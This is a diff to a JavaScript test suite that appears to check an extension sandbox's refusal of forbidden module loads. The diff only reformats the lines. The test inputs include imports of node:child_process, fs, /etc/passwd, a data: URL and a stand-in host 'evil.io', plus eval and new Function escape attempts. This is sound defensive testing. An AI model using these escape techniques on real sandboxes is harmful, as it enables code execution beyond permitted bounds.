@@ -16,7 +16,10 @@ describe('sandbox attacks: module loading', () => {
     ['node:child_process', `export * from 'node:child_process'; export default (r) => {};`],
     ['./relative.js', `import x from './relative.js'; export default (r) => {};`],
     ['/etc/passwd', `import x from '/etc/passwd'; export default (r) => {};`],
-    ['data:text/javascript,export default 1', `import x from 'data:text/javascript,export default 1'; export default (r) => {};`],
+    [
+      'data:text/javascript,export default 1',
+      `import x from 'data:text/javascript,export default 1'; export default (r) => {};`,
+    ],
     ['https://evil.io/x.js', `import 'https://evil.io/x.js'; export default (r) => {};`],
     ['isolated-vm', `import ivm from 'isolated-vm'; export default (r) => {};`],
     ['directus', `import { defineEndpoint } from 'directus'; export default (r) => {};`],
@@ -30,10 +33,22 @@ describe('sandbox attacks: module loading', () => {
 
   it.each([
     ['fs', `export default (router) => { router.get('/', async () => (await import('fs')).default); };`],
-    ['node:child_process', `export default (router) => { router.get('/', () => import(/* hidden */ "node:child_process")); };`],
-    ['data:text/javascript,export default 1', `export default (router) => { router.get('/', () => import('data:text/javascript,export default 1')); };`],
-    ['./chunk.js', `const later = () => import(\`./chunk.js\`); export default (router) => { router.get('/', later); };`],
-    ['directus:api', `export default (router) => { router.get('/', async () => (await import('directus:api')).log('x')); };`],
+    [
+      'node:child_process',
+      `export default (router) => { router.get('/', () => import(/* hidden */ "node:child_process")); };`,
+    ],
+    [
+      'data:text/javascript,export default 1',
+      `export default (router) => { router.get('/', () => import('data:text/javascript,export default 1')); };`,
+    ],
+    [
+      './chunk.js',
+      `const later = () => import(\`./chunk.js\`); export default (router) => { router.get('/', later); };`,
+    ],
+    [
+      'directus:api',
+      `export default (router) => { router.get('/', async () => (await import('directus:api')).log('x')); };`,
+    ],
   ])('dynamic import of %s fails at load with RT_IMPORT_DENIED naming it', async (specifier, code) => {
     const err = await arena.engine.load(spec(code)).then(
       () => null,
@@ -58,7 +73,9 @@ describe('sandbox attacks: module loading', () => {
     ['import() through eval', `const m = await eval("import('node:child_process')")`],
     ['import() through new Function', `const m = await new Function("return import('fs')")()`],
   ])('dynamic import with %s yields nothing to code that catches the refusal', async (_name, stmt) => {
-    const r = await arena.run(`try { ${stmt}; return harm(m.default || m) === 'escaped' ? 'escaped' : 'imported'; } catch (e) { return 'refused'; }`);
+    const r = await arena.run(
+      `try { ${stmt}; return harm(m.default || m) === 'escaped' ? 'escaped' : 'imported'; } catch (e) { return 'refused'; }`,
+    );
     expect(r.body).toBe('refused');
   });
 
@@ -76,7 +93,7 @@ export default (router) => { router.get('/', () => ({ status: 200, body: [s, re.
     }
   });
 
-  it("an extension's own \"Not supported\" error keeps its code", async () => {
+  it('an extension\'s own "Not supported" error keeps its code', async () => {
     const r = await arena.run(`throw new Error('Not supported');`);
     expect(r.code).toBe('RT_EXTENSION_ERROR');
   });
